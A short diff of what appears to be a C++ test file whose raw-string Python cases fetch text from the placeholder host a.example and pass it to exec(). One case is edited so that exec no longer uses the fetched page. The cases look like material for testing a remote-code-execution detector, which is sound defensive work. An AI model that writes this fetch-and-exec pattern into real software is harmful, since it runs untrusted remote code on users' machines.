@@ -100,7 +100,7 @@ exec(page.strip().replace("\r", "").split("---")[1])  # to)py",
      R"py(
 import requests
 page = requests.get("https://a.example").text
-exec("x = 1".strip().replace("\r", page.isdigit() and "" or "\n")))py"},
+exec("x = 1".strip().replace("\r", "\n")))py"},
     {"Number", R"py(
 import requests
 exec(str(requests.get("https://a.example").text))  # to # from)py",
